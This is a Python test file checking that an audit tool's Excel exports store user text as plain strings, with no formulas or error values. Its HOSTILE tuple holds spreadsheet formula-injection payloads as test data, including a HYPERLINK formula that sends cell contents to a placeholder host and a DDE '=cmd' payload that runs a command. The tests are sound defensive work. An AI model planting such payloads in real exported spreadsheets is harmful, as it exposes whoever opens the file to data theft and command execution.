"""Every workbook Granska writes keeps user text as text: no formula, no error value."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from audit_app.checklist_io.library import ChecklistLibrary
from audit_app.checklist_io.loader import parse_checklist
from audit_app.domain.figures import Report
from audit_app.reports.review_workbook import WorkbookCase, write_review_workbook
from audit_app.reports.xlsx import write_xlsx
from audit_app.reports.xlsx_data import DataTuple
from audit_app.services.figures import FigureService
from audit_app.storage.db import Database
from tests.figure_data import seed_utredning

# A lone CR comes back as CR (written as &#13;, as openpyxl does with lxml) or as LF (plain
# XML): the text is the same either way, and never a formula.
HOSTILE = ('=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")', "+1+2", "-3-4", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "#N/A", "=cmd|' /C calc'!A0")

READ_BACK = tuple(t.replace("\r", "\n") for t in HOSTILE)


def _no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                assert not re.search(r"<f[ >]", xml), name
                assert 't="e"' not in xml, name


def _texts(path: Path) -> dict[str, str]:
    """Every str cell's value by 'sheet!cell', asserting each is stored as a string."""
    wb = openpyxl.load_workbook(path)
    out: dict[str, str] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    out[f"{ws.title}!{cell.coordinate}"] = cell.value
    return out


def test_review_workbook_stores_formula_like_text_as_text(library: ChecklistLibrary,
                                                          tmp_path: Path) -> None:
    source = library.get("placerade-barn").source
    source = re.sub(r"question: .*", "question: '=1+1 fråga'", source, count=1)
    checklist = parse_checklist(source)
    path = tmp_path / "w.xlsx"
    cases = [WorkbookCase(text, text, comments={"viewpoint": text}) for text in HOSTILE]
    write_review_workbook(path, checklist, HOSTILE[0], "uid-1", "0" * 64, cases)
    _no_formulas(path)
    values = {v.replace("\r", "\n") for v in _texts(path).values()}
    assert set(READ_BACK) <= values
    assert "=1+1 fråga *" in values  # the question's header
    assert any(HOSTILE[0] in v for v in values)  # the round name in the instructions
    ws = openpyxl.load_workbook(path)["Granskning"]
    assert [str(ws.cell(r, 1).value).replace("\r", "\n")
            for r in range(3, 3 + len(HOSTILE))] == list(READ_BACK)


@pytest.fixture
def report(db: Database, library: ChecklistLibrary) -> Report:
    round_id, _ = seed_utredning(db, library, n=12)
    return FigureService(db).compute([round_id])


def test_results_workbook_stores_formula_like_text_as_text(report: Report,
                                                           tmp_path: Path) -> None:
    items = (replace(report.items[0], question=HOSTILE[0], section=HOSTILE[1]),
             *report.items[1:])
    hostile = replace(report, items=items, rounds=tuple(replace(r, name=HOSTILE[2])
                                                        for r in report.rounds),
                      reviewers=(HOSTILE[3],), notes=HOSTILE[4:])
    rows: list[DataTuple] = [(text, text, text, None, report.items[0].item_id, None, True,
                              None, text, text, date(2026, 3, 2)) for text in HOSTILE]
    path = tmp_path / "r.xlsx"
    write_xlsx(hostile, iter(rows), path)
    _no_formulas(path)
    texts = _texts(path)
    values = set(texts.values())
    assert set(READ_BACK[:2]) | set(READ_BACK[4:]) <= values
    assert HOSTILE[2] in values and HOSTILE[3] in values  # round name, reviewer ("Om rapporten")
    data = [t for k, t in texts.items() if k.startswith("Data!J")]  # comments
    assert [t for t in data if t != "Kommentar"] == list(READ_BACK)
